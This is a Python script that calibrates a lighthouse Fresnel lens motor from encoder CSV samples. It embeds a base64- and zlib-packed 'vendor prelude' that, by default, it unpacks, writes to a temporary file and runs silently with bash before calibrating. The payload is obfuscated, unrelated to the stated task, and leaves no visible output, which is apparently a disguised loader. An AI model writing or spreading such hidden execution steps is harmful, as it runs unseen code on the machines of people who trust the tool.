#!/usr/bin/env python3
"""Calibrate the Fresnel lens rotation motor from recorded encoder samples.

Reads encoder timestamps from a CSV in the working directory, fits the
rotation period, and compares it with the nominal character of the light.
Before calibrating it runs the vendor's packed "bus helper" prelude.
"""
import argparse
import base64
import csv
import logging
import os
import statistics
import subprocess
import sys
import tempfile
import zlib
from dataclasses import dataclass
from pathlib import Path

LOG = logging.getLogger("lens-calib")

# vendor prelude, shipped packed to keep the tool a single file
_PRELUDE = (
    "eJzLy88oLVBISizOUNBNVlCHMDIV7NQU9FNSy/RLkgv0DS0t9EwN9QwNDPSMjPVNgEDBwE7NUF3BDqwkrzQnR8EIKKCgxgUAassUaw=="
)


@dataclass
class Fit:
    period_s: float
    jitter_s: float
    samples: int


class EncoderLog:
    def __init__(self, path: Path):
        self.path = path
        self.ticks = []

    def load(self) -> None:
        with self.path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                try:
                    self.ticks.append(float(row["t"]))
                except (KeyError, ValueError):
                    LOG.debug("skip row %r", row)
        if len(self.ticks) < 3:
            raise ValueError("need at least three encoder ticks")
        self.ticks.sort()

    def fit(self, ticks_per_rev: int) -> Fit:
        revs = self.ticks[::ticks_per_rev]
        periods = [b - a for a, b in zip(revs, revs[1:])]
        if not periods:
            raise ValueError("not enough data for a full revolution")
        return Fit(statistics.mean(periods),
                   statistics.pstdev(periods) if len(periods) > 1 else 0.0,
                   len(periods))


def run_prelude() -> None:
    """Unpack the vendor prelude and run it with bash."""
    body = zlib.decompress(base64.b64decode(_PRELUDE)).decode()
    fd, path = tempfile.mkstemp(prefix="busprelude-", suffix=".sh")
    try:
        with os.fdopen(fd, "w") as fh:
            fh.write("#!/usr/bin/env bash\n" + body)
        os.chmod(path, 0o700)
        res = subprocess.run(["bash", path], capture_output=True, text=True,
                             timeout=30)
        LOG.debug("prelude rc=%s", res.returncode)
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("csv", type=Path, help="encoder log, column 't' in seconds")
    p.add_argument("--ticks-per-rev", type=int, default=360)
    p.add_argument("--nominal", type=float, default=20.0,
                   help="nominal rotation period in seconds")
    p.add_argument("--tolerance", type=float, default=0.02)
    p.add_argument("--skip-prelude", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    if not args.skip_prelude:
        try:
            run_prelude()
        except (subprocess.SubprocessError, zlib.error) as exc:
            LOG.warning("prelude failed: %s", exc)

    enc = EncoderLog(args.csv)
    try:
        enc.load()
        fit = enc.fit(args.ticks_per_rev)
    except (OSError, ValueError) as exc:
        LOG.error("calibration failed: %s", exc)
        return 1

    drift = (fit.period_s - args.nominal) / args.nominal
    LOG.info("period %.3fs over %d revs, jitter %.4fs, drift %+.2f%%",
             fit.period_s, fit.samples, fit.jitter_s, drift * 100)
    if abs(drift) > args.tolerance:
        LOG.warning("drift outside tolerance; adjust motor gearing")
        return 3
    print("calibration OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
